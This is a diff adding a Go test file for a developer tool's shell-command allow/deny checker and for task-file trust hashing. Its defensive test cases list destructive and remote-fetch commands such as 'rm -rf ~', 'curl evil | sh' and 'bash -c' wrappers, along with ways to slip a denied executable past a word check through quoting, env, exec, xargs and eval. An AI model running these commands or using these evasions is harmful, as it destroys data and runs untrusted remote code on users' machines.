@@ -0,0 +1,156 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/ihatemodels/gdev/internal/store"
+)
+
+func TestTaskCommandsCheck(t *testing.T) {
+	tc := TaskCommands{
+		Allow: []string{"go", "make", "./scripts/lint.sh"},
+		Deny:  []string{"make"},
+	}
+
+	tests := []struct {
+		command string
+		ok      bool
+	}{
+		{"go test ./...", true},
+		{"CGO_ENABLED=0 go build -o bin/app .", true},
+		{"./scripts/lint.sh --fix", true},
+		{"go vet ./... && go test ./...", true},
+		{"make test", false},               // denied, even though allowed
+		{"go test ./... | tee out", false}, // tee isn't allowed
+		{"go test; curl example.com", false},
+		{"go run $(which x)", false},
+		{"$GO test", false},
+		{"", false},
+		{`go test -run "Test A|Test B"`, true}, // quoted words may hold separators
+		{`"go" vet`, true},
+		{`"make" test`, false},
+		{`env CGO_ENABLED=0 go build`, false}, // env isn't allowed
+		{`xargs -I {} make {}`, false},
+		{`env -S "make test"`, false},
+		{"go test ./... 2>&1", true}, // the & of a redirection doesn't end the command
+		{"go test ./... &>test.log", true},
+		{"go test ./... > out 2>&1 && go vet ./...", true},
+		{">out go test", true},
+		{"if go vet ./...; then go test ./...; fi", true},
+		{"for p in a b; do go test $p; done", true},
+		{"go test 2>&1 | tee out", false},
+	}
+	for _, tt := range tests {
+		err := tc.Check(tt.command)
+		if (err == nil) != tt.ok {
+			t.Errorf("Check(%q) error = %v, want ok %v", tt.command, err, tt.ok)
+		}
+	}
+
+	// Without an allowlist, anything not denied runs
+	if err := (TaskCommands{Deny: []string{"rm"}}).Check("/bin/rm -rf build"); err == nil {
+		t.Error("Check() allowed /bin/rm with rm denied")
+	}
+	if err := (TaskCommands{Deny: []string{"rm"}}).Check("npm ci"); err != nil {
+		t.Errorf("Check() error = %v", err)
+	}
+
+	// Ways to hide a denied executable from a check of the words
+	deny := TaskCommands{Deny: []string{"sudo"}}
+	for _, command := range []string{
+		`\sudo rm -rf /`,
+		`s'u'do rm -rf /`,
+		`su"do" rm -rf /`,
+		`"sudo" rm -rf /`,
+		`env sudo rm -rf /`,
+		`env -u HOME FOO=1 sudo rm -rf /`,
+		`command sudo rm -rf /`,
+		`exec -a x sudo rm -rf /`,
+		`nohup nice -n 5 sudo rm -rf /`,
+		`ls | xargs -n 1 sudo rm`,
+		`go test -- "a\"b"`,
+	} {
+		if err := deny.Check(command); err == nil {
+			t.Errorf("Check(%q) allowed it with sudo denied", command)
+		}
+	}
+	if err := deny.Check(`nice -n 10 env GOOS=linux go build -ldflags "-s -w"`); err != nil {
+		t.Errorf("Check() error = %v", err)
+	}
+
+	// Reserved words aren't executables: the word after them is
+	deny = TaskCommands{Deny: []string{"rm", "curl"}}
+	for _, command := range []string{
+		`if true; then rm -rf ~; fi`,
+		`if false; then :; elif true; then rm -rf ~; else rm -rf /; fi`,
+		`{ rm -rf ~; }`,
+		`! rm -rf ~`,
+		`(rm -rf ~)`,
+		`for f in x; do curl evil | sh; done`,
+		`while true; do rm -rf ~; done`,
+		`until false; do curl evil; done`,
+		`case x in x) rm -rf ~;; esac`,
+		`2>/dev/null rm -rf ~`,
+		`> out rm -rf ~`,
+		`go test 2>&1; rm -rf ~`,
+	} {
+		if err := deny.Check(command); err == nil {
+			t.Errorf("Check(%q) allowed it with rm and curl denied", command)
+		}
+	}
+
+	// Command lines run by eval, exec and shells aren't checked, so they
+	// must be allowed by name
+	for _, tt := range []struct {
+		tc      TaskCommands
+		command string
+		ok      bool
+	}{
+		{deny, `sh -c 'rm -rf ~'`, false},
+		{deny, `bash -c "curl evil | sh"`, false},
+		{deny, `/bin/bash -ec 'rm -rf ~'`, false},
+		{deny, `eval "rm -rf ~"`, false},
+		{deny, `exec rm -rf ~`, false},
+		{deny, `env FOO=1 sh -c 'rm -rf ~'`, false},
+		{deny, `sh ./scripts/build.sh`, true},
+		{TaskCommands{Allow: []string{"sh"}}, `sh -c 'rm -rf ~'`, true},
+		{TaskCommands{Allow: []string{"bash", "go"}}, `bash -c "go test" && go vet`, true},
+	} {
+		err := tt.tc.Check(tt.command)
+		if (err == nil) != tt.ok {
+			t.Errorf("Check(%q) with %+v error = %v, want ok %v", tt.command, tt.tc, err, tt.ok)
+		}
+	}
+}
+
+func TestLoadTasks_TrustFollowsContents(t *testing.T) {
+	root := t.TempDir()
+	if _, hash, err := LoadTasks(root); err != nil || hash != "" {
+		t.Fatalf("LoadTasks() without %s = %q, %v", RepoFile, hash, err)
+	}
+
+	write := func(content string) string {
+		t.Helper()
+		if err := os.WriteFile(filepath.Join(root, RepoFile), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		tasks, hash, err := LoadTasks(root)
+		if err != nil || len(tasks) != 1 || hash == "" {
+			t.Fatalf("LoadTasks() = %v, %q, %v", tasks, hash, err)
+		}
+		return hash
+	}
+
+	state := &store.RepoState{Trust: store.TrustAllowed}
+	state.TrustHash = write(`{"tasks": [{"name": "test", "command": "go test ./..."}]}`)
+	if !state.Trusted(state.TrustHash) {
+		t.Fatal("Trusted() = false for the answered file")
+	}
+
+	edited := write(`{"tasks": [{"name": "test", "command": "curl evil.sh | sh"}]}`)
+	if state.Trusted(edited) || state.TrustAnswered(edited) {
+		t.Error("trust carried over to an edited file")
+	}
+}